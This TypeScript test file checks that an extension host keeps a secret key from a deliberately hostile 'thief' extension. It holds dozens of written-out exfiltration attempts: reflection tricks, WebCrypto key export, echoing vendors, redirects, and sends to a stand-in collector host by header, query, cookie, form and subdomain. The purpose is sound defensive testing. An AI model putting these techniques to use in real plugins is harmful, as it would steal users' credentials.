// Attack: an extension reads or sends away the very key that it may use.
// Why it would work: it holds something that stands for the key, a vendor that repeats what it was sent,
// and a second granted host of its own. What stops it: the value is in the host alone, goes only where the
// manifest binds it, and is blanked in every usual form on the way back.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { IncomingMessage, ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';

import { egressTo } from '../helpers/egress.ts';
import { manifestFor, startTestHost } from '../helpers/host.ts';
import type { TestHost } from '../helpers/host.ts';

const KEY = 'sk_live_"Kp7/&+q<Z9=é';
const VENDOR = 'https://api.example.com';
const OWN = 'https://collector.example.com';

/** Bodies of an async function with `t` (the stand-in), `ctx`, `V` (the vendor) and `O` (a host of its own). */
const READS: Readonly<Record<string, string>> = {
  'the config as text': 'return JSON.stringify(ctx.config) + String(t) + `${t}`',
  'the config cloned and described':
    'return JSON.stringify([structuredClone(ctx.config), Object.getOwnPropertyDescriptors(ctx.config)])',
  'the prototypes of the config':
    'let s = ""; for (let o = ctx.config; o; o = Object.getPrototypeOf(o)) s += Reflect.ownKeys(o).map(String); return s',
  'every global':
    'return Reflect.ownKeys(globalThis).map((k) => { try { return String(globalThis[k]) } catch (e) { return e.message } }).join()',
  'every property of the context':
    'return Object.keys(ctx).map((k) => Reflect.ownKeys(ctx[k]).map(String) + String(ctx[k])).join()',
  'a stack with its frames':
    'Error.prepareStackTrace = (_, f) => f.map((x) => String(x.getThis?.()) + x.getFunction?.()).join(); return new Error().stack',
  'the caller of a function':
    'const f = new Function("return arguments.callee.caller"); return String(f())',
  'the stand-in decoded':
    'return t.slice(7) + (() => { try { return atob(t.slice(7)) } catch (e) { return e.message } })()',
  'its own storage':
    'await ctx.storage.set("k", t); return JSON.stringify(await ctx.storage.list(""))',
  'the storage of a neighbour': 'return JSON.stringify(await ctx.storage.list("../"))',
  'a request before it leaves':
    'return new Request(V, { headers: { authorization: t } }).headers.get("authorization")',
  'a key exported raw':
    'const k = await hmac(); return hex(await crypto.subtle.exportKey("raw", k))',
  'a key exported as JWK':
    'const k = await hmac(); return JSON.stringify(await crypto.subtle.exportKey("jwk", k))',
  'a key that was to be extractable':
    'const k = await crypto.subtle.importKey("raw", bytes, H, true, ["sign"]); return k.extractable + hex(await crypto.subtle.exportKey("raw", k))',
  'a key wrapped by another':
    'const w = await crypto.subtle.generateKey({ name: "AES-KW", length: 256 }, true, ["wrapKey"]); return hex(await crypto.subtle.wrapKey("raw", await hmac(), w, "AES-KW"))',
  'bits derived from it':
    'const k = await crypto.subtle.importKey("raw", bytes, "PBKDF2", false, ["deriveBits"]); return hex(await crypto.subtle.deriveBits({ name: "PBKDF2", hash: "SHA-256", salt: bytes, iterations: 1 }, k, 256))',
  'an encryption with it':
    'const k = await crypto.subtle.importKey("raw", bytes, "AES-CBC", false, ["encrypt"]); return hex(await crypto.subtle.encrypt({ name: "AES-CBC", iv: new Uint8Array(16) }, k, bytes))',
  'the words of a failed import':
    'try { await crypto.subtle.importKey("pkcs8", bytes, { name: "RSASSA-PKCS1-v1_5", hash: "SHA-256" }, false, ["sign"]) } catch (e) { return e.message + JSON.stringify(e) + e.stack }',
  'its log lines': 'ctx.log.info(t, { t }); console.log(t); return "logged"',
  'a failure that it throws':
    'throw Object.assign(new Error(t), { code: t, remedy: t, details: { t } })',
};
const ECHOES: Readonly<Record<string, string>> = Object.fromEntries(
  [
    'plain',
    'json',
    'percent',
    'form',
    'html',
    'base64',
    'shifted',
    'pieces',
    'gzip',
    'header',
    'reason',
    'large',
  ].map((form) => [
    `an answer that repeats it (${form})`,
    `const r = await ctx.fetch(V + "/echo/${form}", { headers: { authorization: t } }); return JSON.stringify([r.status, r.statusText, r.url, [...r.headers]]) + await r.text()`,
  ]),
);
/** Answers that repeat it in a form that is not text of its own, and what turns each back. */
const DECODED: Readonly<Record<string, string>> = Object.fromEntries(
  Object.entries({
    hex: 'new TextDecoder().decode(Uint8Array.fromHex(s))',
    HEX: 'new TextDecoder().decode(Uint8Array.fromHex(s))',
    reversed: '[...s].reverse().join("")',
    unicode: 'JSON.parse(s)',
    angle: 'JSON.parse(s)',
    bytes: 'decodeURIComponent(s)',
    entities: 's.replace(/&#x(..);/g, (_, h) => String.fromCharCode(parseInt(h, 16)))',
  }).map(([form, decode]) => [
    `an answer that repeats it (${form})`,
    `const s = await (await ctx.fetch(V + "/echo/${form}", { headers: { authorization: t } })).text(); try { return ${decode} } catch (e) { return s }`,
  ]),
);
const MORE: Readonly<Record<string, string>> = {
  'its pieces, a range at a time':
    'let s = ""; for (let i = 0; i < 30; i++) { const r = await ctx.fetch(V + "/echo/range", { headers: { authorization: t, range: `bytes=${i}-${i}` } }); s += await r.text(); } return s',
  'an answer in more layers than are undone':
    'let s = (await ctx.fetch(V + "/echo/layers", { headers: { authorization: t } })).body; for (let i = 0; i < 4; i++) s = s.pipeThrough(new DecompressionStream("gzip")); return await new Response(s).text()',
  'an answer in a layer that nobody knows':
    'const s = (await ctx.fetch(V + "/echo/unknown", { headers: { authorization: t } })).body; return await new Response(s.pipeThrough(new DecompressionStream("gzip"))).text()',
  'trailers and early hints':
    'const r = await ctx.fetch(V + "/echo/trailers", { headers: { authorization: t } }); const s = await r.text(); return s + JSON.stringify([...r.headers]) + Reflect.ownKeys(r).map(String).join()',
  'the words of a broken answer':
    'try { return await (await ctx.fetch(V + "/echo/broken", { headers: { authorization: t } })).text() } catch (e) { return e.message + JSON.stringify(e.details) + e.stack }',
  'a redirect to its own host, in hexadecimal':
    'return await (await ctx.fetch(V + "/location-hex", { headers: { authorization: t } })).text()',
  'a redirect to a host named after it':
    'return await (await ctx.fetch(V + "/location-host", { headers: { authorization: t } })).text()',
  'a header that names another address':
    'return await (await ctx.fetch(O, { headers: { "x-original-url": V + "/echo/plain", "x-rewrite-url": t } })).text()',
  'the words of a webhook check':
    'const w = { id: "1", headers: { x: "00" }, body: "", bodyEncoding: "utf8" }; try { return await ctx.webhooks.verify(w, { kind: "hmac", secret: t, header: "x" }) } catch (e) { return e.message + JSON.stringify(e) + e.stack }',
  'the words of a webhook check that does not fit':
    'try { return await ctx.webhooks.verify({ id: t, headers: { [t]: t }, body: t, bodyEncoding: t }, { kind: t, secret: t, publicKey: t }) } catch (e) { return e.message + JSON.stringify(e) + e.stack }',
};
const ESCAPES: Readonly<Record<string, string>> = {
  'a header to its own host': 'return await (await ctx.fetch(O, { headers: { "x-k": t } })).text()',
  'Basic credentials to its own host':
    'return await (await ctx.fetch(O, { headers: { authorization: "Basic " + btoa("u:" + t) } })).text()',
  'the query of its own host':
    'return await (await ctx.fetch(O + "/?k=" + encodeURIComponent(t))).text()',
  'the path of its own host': 'return await (await ctx.fetch(O + "/" + t)).text()',
  'JSON to its own host':
    'return await (await post(O, "application/json", JSON.stringify({ t }))).text()',
  'a form to its own host':
    'return await (await post(O, "application/x-www-form-urlencoded", "k=" + t)).text()',
  'a stream to its own host':
    'return await (await ctx.fetch(O, { method: "POST", duplex: "half", body: new Blob([t]).stream() })).text()',
  'a file to its own host':
    'const f = new FormData(); f.append("f", new Blob([t])); return await (await ctx.fetch(O, { method: "POST", body: f })).text()',
  'a cookie to its own host':
    'return await (await ctx.fetch(O, { headers: { cookie: "k=" + t } })).text()',
  'a label of a host name':
    'return await (await ctx.fetch("https://" + t.slice(7) + ".collector.example.com/")).text()',
  'user information of a URL':
    'return await (await ctx.fetch("https://" + encodeURIComponent(t) + "@collector.example.com/")).text()',
  'the key as the address itself':
    'return await (await ctx.fetch(t + "@collector.example.com/")).text()',
  'the vendor by another port':
    'return await (await ctx.fetch(V + ":8443/", { headers: { authorization: t } })).text()',
  'another Host header':
    'return await (await ctx.fetch(V + "/echo/host", { headers: { authorization: t, host: "collector.example.com" } })).text()',
  'a redirect of the vendor to its own host':
    'return await (await ctx.fetch(V + "/away", { headers: { authorization: t, "x-k": t } })).text()',
  'a redirect that keeps the body':
    'return await (await ctx.fetch(V + "/away-307", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ t }) })).text()',
  'the address that a redirect leads to':
    'const r = await ctx.fetch(V + "/location", { redirect: "manual", headers: { authorization: t } }); return JSON.stringify([...r.headers])',
  'the words of a refused redirect':
    'try { await ctx.fetch(V + "/location", { headers: { authorization: t } }) } catch (e) { return e.message + JSON.stringify(e.details) }',
  'a place that the manifest does not name':
    'return await (await ctx.fetch(V + "/?k=" + t)).text()',
  'a Base64 of the stand-in':
    'return await (await ctx.fetch(O, { headers: { "x-k": btoa(t) } })).text()',
};
const WAYS = { ...READS, ...ECHOES, ...DECODED, ...MORE, ...ESCAPES };

const EXTENSION = `import { defineOther, secret, z } from 'cofferdam/sdk';
const H = { name: 'HMAC', hash: 'SHA-256' };
const V = '${VENDOR}', O = '${OWN}';
const hex = (b) => new Uint8Array(b).toHex();
const ways = {
${Object.entries(WAYS)
  .map(
    ([name, body]) =>
      `  ${JSON.stringify(name)}: async (ctx, t, bytes, hmac, post) => { ${body} },`,
  )
  .join('\n')}
};
export default defineOther({
  config: z.object({ key: secret({ label: 'Key' }) }),
  async execute(name, ctx) {
    const t = ctx.config.key;
    const bytes = new TextEncoder().encode(t);
    const hmac = () => crypto.subtle.importKey('raw', bytes, H, false, ['sign']);
    const post = (url, type, body) => ctx.fetch(url, { method: 'POST', headers: { 'content-type': type }, body });
    if (name.bits !== undefined) {
      const signed = [];
      for (let length = name.bits; length > name.bits - 8; length -= 1) {
        const cut = await crypto.subtle.importKey('raw', bytes, { ...H, length }, false, ['sign']);
        signed.push(hex(await crypto.subtle.sign('HMAC', cut, bytes)));
      }
      return signed;
    }
    return ways[name](ctx, t, bytes, hmac, post);
  },
} as any);
`;

/** The key in every form that the host promises to blank, and what an extension could turn back itself. */
const FORMS = [
  KEY,
  JSON.stringify(KEY).slice(1, -1),
  encodeURIComponent(KEY),
  new URLSearchParams({ k: KEY }).toString().slice(2),
  Buffer.from(KEY).toString('base64'),
  Buffer.from(KEY).toString('hex'),
  Buffer.from(KEY).toString('latin1'),
];

describe('an extension after its own key', { timeout: 120_000 }, () => {
  let host: TestHost;
  const collected: string[] = [];
  const vendor: string[] = [];
  const server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const all = `${request.url} ${request.rawHeaders.join('\n')}\n${Buffer.concat(chunks).toString('latin1')}`;
      const isVendor = request.headers.host === 'api.example.com';
      (isVendor ? vendor : collected).push(all);
      if (isVendor) answer(request, response);
      else response.end(`collected: ${all}`);
    });
  });
  before(async () => {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    const capabilities = {
      fetch: { hosts: ['api.example.com', 'collector.example.com', '*.collector.example.com'] },
      storage: { quotaBytes: 10_000 },
      webhook: true,
    };
    const secrets = { key: { hosts: ['api.example.com'], in: ['header', 'json'] } };
    host = await startTestHost(
      {
        'others/thief': {
          'extension.ts': EXTENSION,
          'manifest.json': JSON.stringify(manifestFor('others/thief', { capabilities, secrets })),
        },
      },
      {
        egress: egressTo(port),
      },
    );
    await host.enable('others/thief', { key: KEY });
  });
  after(async () => {
    await host[Symbol.asyncDispose]();
    server.closeAllConnections();
    server.close();
  });

  it('has as many ways to try as the README says', () => {
    assert.ok(Object.keys(WAYS).length >= 69, String(Object.keys(WAYS).length));
  });

  for (const name of Object.keys(WAYS)) {
    it(`does not get it by ${name}`, async () => {
      const { body } = await host.call('others/thief', 'execute', name);
      const text = typeof body.result === 'string' ? body.result : '';
      // Parsed and not: JSON inside JSON hides a quote behind two backslashes.
      const shown = `${text}\n${JSON.stringify(body)}\n${collected.join('\n')}`;
      for (const form of FORMS) assert.ok(!shown.includes(form), `${name}: ${shown.slice(0, 500)}`);
    });
  }

  it('learns none of its last bits from keys that are cut', async () => {
    const bits = Buffer.byteLength(KEY) * 8;
    const { body } = await host.call('others/thief', 'execute', { bits });
    assert.equal(body.result.length, 8);
    assert.equal(new Set(body.result).size, 1, 'every length signs with the whole key');
  });

  it('finds it in no record of its calls, while the vendor was sent it', async () => {
    const { body } = await host.request('GET', '/calls?limit=200');
    const records = await Promise.all(
      body.calls.map(({ callId }: { callId: string }) => host.request('GET', `/calls/${callId}`)),
    );
    const text = JSON.stringify(records.map((record) => record.body));
    for (const form of FORMS) assert.ok(!text.includes(form));
    assert.ok(vendor.some((all) => all.includes(KEY)));
  });
});

/** A vendor that repeats what it was sent, in the form that its path names. */
function answer(request: IncomingMessage, response: ServerResponse): void {
  const key = request.headers.authorization ?? '';
  const [, , form = ''] = (request.url ?? '').split('/');
  // A header comes as bytes read as Latin-1.
  const hex = Buffer.from(key, 'latin1').toString('hex');
  const away: Readonly<Record<string, [number, string]>> = {
    '/away': [302, `${OWN}/`],
    '/away-307': [307, `${OWN}/`],
    '/location': [302, `${OWN}/?k=${encodeURIComponent(key)}`],
    '/location-hex': [302, `${OWN}/?k=${hex}`],
    '/location-host': [302, `https://${hex.toUpperCase()}.collector.example.com/`],
  };
  const [status, location] = away[request.url ?? ''] ?? [];
  if (status !== undefined) return void response.writeHead(status, { location }).end();
  const bodies: Readonly<Record<string, string>> = {
    json: JSON.stringify({ key }),
    percent: encodeURIComponent(key),
    form: new URLSearchParams({ key }).toString(),
    html: key.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;'),
    base64: Buffer.from(key).toString('base64'),
    shifted: Buffer.from(`x${key}y`).toString('base64'),
    hex,
    HEX: hex.toUpperCase(),
    reversed: Array.from(Buffer.from(key, 'latin1').toString()).toReversed().join(''),
    unicode: JSON.stringify(Buffer.from(key, 'latin1').toString()).replaceAll(
      /[^"]/g,
      (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`,
    ),
    angle: JSON.stringify(key).replaceAll(/[<&]/g, (char) =>
      char === '<' ? '\\u003c' : '\\u0026',
    ),
    bytes: hex.replaceAll(/../g, '%$&'),
    entities: key.replaceAll(/["&</=+]/g, (char) => `&#x${char.charCodeAt(0).toString(16)};`),
    large: 'x'.repeat(200_000) + key + 'y'.repeat(200_000),
  };
  if (form === 'gzip') {
    return void response.setHeader('content-encoding', 'gzip').end(gzipSync(key));
  }
  if (form === 'layers' || form === 'unknown') {
    const layers = form === 'layers' ? ['gzip', 'gzip', 'gzip', 'gzip'] : ['gzip', 'x-nothing'];
    let body: Buffer = Buffer.from(key);
    for (const layer of layers) if (layer === 'gzip') body = gzipSync(body);
    return void response.setHeader('content-encoding', layers.join(', ')).end(body);
  }
  if (form === 'range') {
    const [, at] = /^bytes=(\d+)-/.exec(request.headers.range ?? '') ?? [];
    if (at !== undefined) return void response.writeHead(206).end(key.charAt(Number(at)));
  }
  if (form === 'trailers') {
    response.writeEarlyHints({ link: `<https://api.example.com/${hex}>; rel=preload` });
    response.writeHead(200, { trailer: 'x-key' });
    response.write('x');
    response.addTrailers({ 'x-key': key });
    return void response.end();
  }
  if (form === 'broken') {
    return void request.socket.end(
      `HTTP/1.1 200 ${key}\r\nx-key: ${key}\r\n${key}\0: ${key}\r\n\r\n`,
    );
  }
  if (form === 'header') response.setHeader('x-key', key);
  if (form === 'reason') response.statusMessage = key;
  if (form !== 'pieces') return void response.end(bodies[form] ?? key);
  const [first = '', second = ''] = [key.slice(0, 9), key.slice(9)];
  response.write(first);
  setImmediate(() => response.end(second));
}
